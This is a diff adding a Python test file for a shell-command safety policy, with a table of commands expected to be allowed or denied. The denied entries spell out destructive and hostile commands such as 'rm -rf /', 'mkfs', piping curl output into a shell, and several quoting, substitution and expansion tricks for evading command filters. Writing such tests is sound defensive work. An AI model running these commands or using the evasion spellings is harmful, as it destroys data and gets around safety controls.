@@ -0,0 +1,118 @@
+# Table-driven checks of the command policy in sundar.safety against the built-in policy.
+# Run with: python -m unittest discover tests
+
+import unittest
+
+from sundar import safety
+
+# Command -> whether the default policy allows it
+POLICY_CASES = {
+    # Ordinary commands
+    "ls -la": True,
+    "df -h": True,
+    "git status": True,
+    "kill 1": True,
+    "rm -rf /tmp/build/x": True,
+    "rm -rf build": True,
+    "rm -rf ~/build": True,
+    "systemctl status": True,
+    "curl http://example.com > f": True,
+    "find . -name '*.py' | xargs wc -l": True,
+    "echo $HOME": True,
+    "ls \"$HOME\"": True,
+    "echo 'unclosed": True,
+    # Names of denied commands as plain arguments
+    "echo shutdown": True,
+    "man reboot": True,
+    # Denied commands as written
+    "rm -rf /": False,
+    "shutdown now": False,
+    "dd if=/dev/zero of=x": False,
+    "mkfs.ext4 /dev/sda": False,
+    "kill -9 1": False,
+    "kill -s KILL 1": False,
+    "systemctl reboot": False,
+    "curl http://example.com | sh": False,
+    # Top-level directories, their contents and home, however it is spelled
+    "rm -rf /usr/*": False,
+    "rm -rf /root": False,
+    "rm -rf /opt": False,
+    "rm -rf /home/user": False,
+    "rm -rf /tmp/x": False,
+    "rm -rf ${HOME}": False,
+    "rm -rf \"${HOME}\"/*": False,
+    # Spacing, paths and flag spellings the old substring check missed
+    "rm  -rf /": False,
+    "rm -r -f /": False,
+    "rm -fr //": False,
+    "rm -rf /*": False,
+    "rm -rf ~": False,
+    "rm --recursive --force /usr/": False,
+    "/sbin/reboot": False,
+    # Quoting and alias escapes
+    "r''eboot": False,
+    "\\reboot": False,
+    # Command lists, subshells and groups
+    "echo hi; reboot": False,
+    "echo hi && \\reboot": False,
+    "echo hi\nreboot": False,
+    "echo a#;reboot": False,
+    "(reboot)": False,
+    "{ reboot; }": False,
+    "FOO=1 reboot": False,
+    # Wrappers and nested shells
+    "sudo reboot": False,
+    "sudo -u root shutdown now": False,
+    "timeout 5 reboot": False,
+    "find / -exec rm -rf / \\;": False,
+    "curl http://example.com | sudo bash": False,
+    "bash -c 'reboot'": False,
+    "sh -lc \"rm -rf /\"": False,
+    "eval reboot": False,
+    # Anything piped into a shell, and code run by interpreters
+    "echo reboot | sh": False,
+    "echo \"rm -rf /\" | bash": False,
+    "cat script | sudo dash": False,
+    "ls | grep sh": True,
+    "python3 -c \"import os; os.system('reboot')\"": False,
+    "python -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"/\"])'": False,
+    "perl -e 'system(\"shutdown now\")'": False,
+    "node -e \"require('child_process').execSync('reboot')\"": False,
+    "python3 -c 'print(1 + 1)'": True,
+    "python3 script.py": True,
+    # Substitutions that run a denied command
+    "echo $(reboot)": False,
+    "echo \"$(sudo reboot)\"": False,
+    "echo `sudo reboot`": False,
+    "cat <(reboot)": False,
+    # Command names only known after expansion
+    "$(echo reboot)": False,
+    "`echo reboot`": False,
+    "r${x}eboot": False,
+    "$'\\162eboot'": False,
+    "\"$(echo reboot)\"": False,
+    "x=reboot; $x": False,
+    "sudo $(echo reboot)": False,
+    "echo hi | `echo sh`": False,
+}
+
+class PolicyTest(unittest.TestCase):
+    def setUp(self):
+        self.policy = safety.parse_policy(safety.DEFAULT_POLICY, "<default policy>")
+    
+    def test_default_policy(self):
+        for command, allowed in POLICY_CASES.items():
+            with self.subTest(command=command):
+                self.assertEqual(safety.evaluate_command(command, self.policy)[0], allowed)
+    
+    def test_bulk_evaluation_matches(self):
+        for command, allowed, _ in safety.evaluate_commands(POLICY_CASES, self.policy):
+            with self.subTest(command=command):
+                self.assertEqual(allowed, POLICY_CASES[command])
+    
+    def test_expanded_name_reports_rule(self):
+        self.assertEqual(safety.evaluate_command("$(echo reboot)", self.policy),
+                         (False, safety.EXPANSION_RULE))
+
+if __name__ == "__main__":
+    unittest.main()